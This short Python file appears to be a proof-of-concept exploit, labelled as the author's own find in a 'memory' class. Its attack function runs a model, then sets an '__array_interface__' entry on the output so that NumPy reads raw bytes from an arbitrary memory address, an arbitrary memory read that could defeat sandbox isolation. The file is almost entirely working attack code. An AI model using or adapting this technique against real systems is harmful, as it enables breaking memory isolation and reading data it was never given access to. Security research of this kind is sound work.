"""Class: memory. Source: own find. Escape: a model output sets any attribute by item."""

import numpy as np


def attack(model, tokenizer, address):
    out = model(**tokenizer("the", return_tensors="pt"))
    out["__array_interface__"] = {
        "shape": (6,),
        "typestr": "|u1",
        "data": (address, True),
        "version": 3,
    }
    return np.array(out).tobytes()
